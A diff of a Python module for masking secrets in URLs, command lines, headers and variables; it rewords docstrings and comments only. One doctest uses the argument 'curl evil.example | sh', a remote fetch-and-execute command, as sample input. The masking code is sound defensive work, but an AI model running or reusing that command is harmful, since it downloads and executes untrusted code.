@@ -1,4 +1,4 @@
-"""Secrets in URLs, command lines, headers and variables: what to show instead, and what not to repeat."""
+"""Finds and masks secrets in URLs, command lines, headers, variables and text."""
 
 from __future__ import annotations
 
@@ -34,10 +34,10 @@ __all__ = [
 ]
 
 SHORTEST = 4
-"""Characters that a secret has at least: masking "1" everywhere would hide the message."""
+"""Characters of the shortest secret that is masked: masking each "1" would make a message unreadable."""
 
 _TOKEN = re.compile(r"(?=[^\d]*\d)(?=[^A-Za-z]*[A-Za-z])[\w~+=-]{16,}|eyJ[\w.-]{16,}")
-"""Looks like a token, whatever its name: long, with letters and digits; no path and no host name."""
+"""Text that looks like a token, whatever its name: long, with letters and digits, no path and no host name."""
 
 _PLAIN = re.compile(r"[\w+=~-]+")
 _IN_PATHS = {character: quote(character, "") for character in "!$&'()*+,;=:@/"}
@@ -46,14 +46,14 @@ _URL_SAFE = str.maketrans("+/", "-_")
 _NAMED = re.compile(r"([\w.-]+)(?:=|:(?!//)\s*)")
 """The start of `--name=value`, `NAME=value` or `Name: value`."""
 _OFTEN = 300
-"""Characters of a URL that logs may repeat; longer ones are not remembered."""
+"""Characters of the longest URL whose masked form is cached, because logs may repeat it."""
 
 _URL = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,30}://\S+")
 _PAIR = re.compile(r"(?<![\w.-])([\w.-]++)\s*+=\s*('[^']*'|[^\s'&]+)")
 
 
 def mask_url(url: str) -> str:
-    """Return `url` without the secrets that URLs carry.
+    """Return `url` with user info and secret-looking query values masked, and without its fragment.
 
     >>> mask_url("https://me:pw@example.com/mcp?api_key=1&page=2")
     'https://***@example.com/mcp?api_key=***&page=2'
@@ -65,7 +65,7 @@ def mask_url(url: str) -> str:
 def _masked_url(url: str) -> str:
     try:
         parts = urlsplit(url)
-    except ValueError:  # no URL, so nobody knows where its secrets are
+    except ValueError:  # not a URL, so its secrets cannot be found
         return MASK
     netloc = parts.netloc
     if "@" in netloc:
@@ -78,7 +78,7 @@ def _masked_url(url: str) -> str:
 
 
 def mask_text(text: str) -> str:
-    """Return text without the secrets of the URLs and of the `name=value` pairs in it, whatever characters they have.
+    """Return text with secrets masked in its URLs and `name=value` pairs, even if they contain special characters.
 
     >>> mask_text("postgresql://me:p/w@db.example:5432/threads?password=x")
     'postgresql://***@db.example:5432/threads?password=***'
@@ -96,7 +96,7 @@ def _without_user(url: str) -> str:
 
 
 class Concealed(str):
-    """Text that may hold a secret: a string as any other, but what shows it as a value shows it masked.
+    """A string that may hold a secret: an ordinary `str` with a masked repr.
 
     >>> where = Concealed("postgresql://me:sesame@db.example/threads")
     >>> where
@@ -123,7 +123,7 @@ def mask_arguments(args: tuple[str, ...]) -> tuple[str, ...]:
 
 
 def _masked_arguments(args: tuple[str, ...]) -> list[tuple[str, frozenset[str]]]:
-    """Return each argument as it may be shown, with the secrets that were in it."""
+    """Return each argument with its secrets masked, and these secrets."""
     masked: list[tuple[str, frozenset[str]]] = []
     hide_next = False
     for arg in args:
@@ -142,7 +142,7 @@ def _masked_arguments(args: tuple[str, ...]) -> list[tuple[str, frozenset[str]]]
 
 
 def _secret_start(arg: str) -> int | None:
-    """Return where the value of a secret-looking name starts, also in `--header=Authorization: x`."""
+    """Return the index of the value of a secret-looking name, also in `--header=Authorization: x`, or None."""
     match = _NAMED.match(arg)
     while match:
         if is_declared_secret(match[1]):
@@ -152,7 +152,7 @@ def _secret_start(arg: str) -> int | None:
 
 
 def _with_last_word(value: str) -> frozenset[str]:
-    """Return a header's value, and what follows its scheme: of `Bearer x` also `x`; of `Basic x` what it stands for."""
+    """Return a header's value and the secrets in it: `x` of `Bearer x`, and for `Basic x` also its decoded text."""
     scheme, _, word = value.rpartition(" ")
     decoded = _decoded(word) if scheme.strip().lower() == "basic" else ""
     return frozenset({value, word, decoded, decoded.partition(":")[2]} - {""})
@@ -166,7 +166,7 @@ def _decoded(word: str) -> str:
 
 
 def argument_secrets(args: tuple[str, ...]) -> frozenset[str]:
-    """Return what `mask_arguments` hides."""
+    """Return the secrets that `mask_arguments` masks."""
     return frozenset(secret for _, found in _masked_arguments(args) for secret in found)
 
 
@@ -176,10 +176,10 @@ def named_secrets(values: Mapping[str, str]) -> frozenset[str]:
 
 
 def header_secrets(headers: Mapping[str, str]) -> frozenset[str]:
-    """Return the values of secret-looking headers.
+    """Return the values of secret-looking headers, and the secrets inside them.
 
-    Of `Bearer x` also `x`, of `Basic x` the password in it, of a cookie each value, of WebSocket's subprotocols those
-    that look like tokens: browsers can send no others.
+    These are the `x` of `Bearer x`, the password in `Basic x`, each value of a cookie, and the WebSocket subprotocols
+    that look like tokens (a browser can send a token in no other header).
 
     >>> sorted(header_secrets({"Authorization": "Basic bWU6c2VzYW1l", "Cookie": "a=open; b=sesame"}))
     ['Basic bWU6c2VzYW1l', 'a=open; b=sesame', 'b=sesame', 'bWU6c2VzYW1l', 'me:sesame', 'open', 'sesame']
@@ -194,7 +194,7 @@ def header_secrets(headers: Mapping[str, str]) -> frozenset[str]:
 
 
 def variable_secrets(values: Mapping[str, str]) -> frozenset[str]:
-    """Return the values of variables that a declaration uses which are secrets, by their names or by how they look.
+    """Return the values of a declaration's variables that are secrets by name or look like tokens.
 
     >>> sorted(variable_secrets({"MY_SECRET": "sesame", "HOST": "db1.example.com", "ID": "a1b2c3d4e5f6a7b8"}))
     ['a1b2c3d4e5f6a7b8', 'sesame']
@@ -203,7 +203,7 @@ def variable_secrets(values: Mapping[str, str]) -> frozenset[str]:
 
 
 def with_names(text: str, values: Mapping[str, str]) -> str:
-    """Return text with variables by name where their values stand in it.
+    """Return text with the values of variables replaced by `${NAME}`.
 
     >>> with_names("https://a.example/s3cret/mcp", {"MY_SECRET": "s3cret"})
     'https://a.example/${MY_SECRET}/mcp'
@@ -215,9 +215,9 @@ def with_names(text: str, values: Mapping[str, str]) -> str:
 
 
 def stable_arguments(args: tuple[str, ...]) -> tuple[str, ...]:
-    """Return arguments with tokens masked: the same for the same program, whatever its secrets are just now.
+    """Return arguments with tokens masked, so that a program keeps its identity when its secrets change.
 
-    What is masked for its name, and may be a program, a file or a line of a shell, stays.
+    An argument stays if its secret could be a program, a file or a shell command.
 
     >>> stable_arguments(("--token", "ghp_16C7e42F", "-c", "TOKEN=x; curl evil.example | sh", "--key", "server.py"))
     ('--token', '***', '-c', 'TOKEN=x; curl evil.example | sh', '--key', 'server.py')
@@ -227,7 +227,7 @@ def stable_arguments(args: tuple[str, ...]) -> tuple[str, ...]:
 
 
 def url_secrets(url: str) -> frozenset[str]:
-    """Return user info and secret-looking query values, as written and as decoded."""
+    """Return user info and secret-looking query values of a URL, as written and decoded."""
     try:
         parts = urlsplit(url)
     except ValueError:
@@ -242,27 +242,27 @@ def url_secrets(url: str) -> frozenset[str]:
 
 
 def long_enough(values: Iterable[str]) -> frozenset[str]:
-    """Leave out what is too short to be a secret: masking "1" everywhere would hide the message."""
+    """Return the values that are long enough to mask; see `SHORTEST`."""
     return frozenset(value for value in values if len(value) >= SHORTEST)
 
 
 @lru_cache(maxsize=1024)
 def spellings(secret: str, *, encoded: bool = True) -> frozenset[str]:
-    r"""Return the ways in which a secret may be written: as it is, in a URL, in JSON, in HTML, within base64.
+    r"""Return the forms in which a secret may appear: unchanged, in a URL, in JSON, in HTML, within base64.
 
     Args:
-        secret: What must not be shown.
-        encoded: Whether base64 counts as well.
+        secret: The secret.
+        encoded: Whether to include base64.
 
     >>> sorted(spellings("a/b c", encoded=False))
     ['a%2Fb%20c', 'a%2Fb+c', 'a%2fb%20c', 'a%2fb+c', 'a/b c', 'a/b%20c', 'a\\/b c', 'a\\/b%20c']
     """
-    in_query = in_path = quote(secret, "", errors="replace")  # half of a surrogate pair has no UTF-8
+    in_query = in_path = quote(secret, "", errors="replace")  # UTF-8 cannot encode a lone surrogate
     for character, escape in _IN_PATHS.items():
         in_path = in_path.replace(escape, character)
     found = {secret, html.escape(secret), in_query, in_query.replace("%20", "+"), in_path}
     found |= {_ESCAPE.sub(lambda escape: escape[0].lower(), text) for text in found if "%" in text}
-    for _ in range(3):  # JSON, JSON in a text of JSON, and that in the JSON of a message
+    for _ in range(3):  # JSON, JSON in a string of JSON, and that in the JSON of a message
         more = {json.dumps(text, ensure_ascii=ascii_)[1:-1] for text in found for ascii_ in (True, False)}
         if more <= found:
             break
@@ -272,7 +272,7 @@ def spellings(secret: str, *, encoded: bool = True) -> frozenset[str]:
 
 
 def _in_base64(secret: str) -> set[str]:
-    """Return what is always the same where a secret is part of a longer text in base64 (`user:password`)."""
+    """Return the parts of base64 that every longer text with the secret has (such as `user:password`)."""
     found: set[str] = set()
     data = secret.encode("utf-8", "replace")
     if len(data) < 6:
@@ -285,7 +285,7 @@ def _in_base64(secret: str) -> set[str]:
 
 
 def hidden_in(text: str, secrets: frozenset[str]) -> str:
-    """Return text with secrets masked, however they are written."""
+    """Return text with secrets masked in all their spellings."""
     for form in _all_spellings(secrets):
         if form in text:
             text = text.replace(form, MASK)
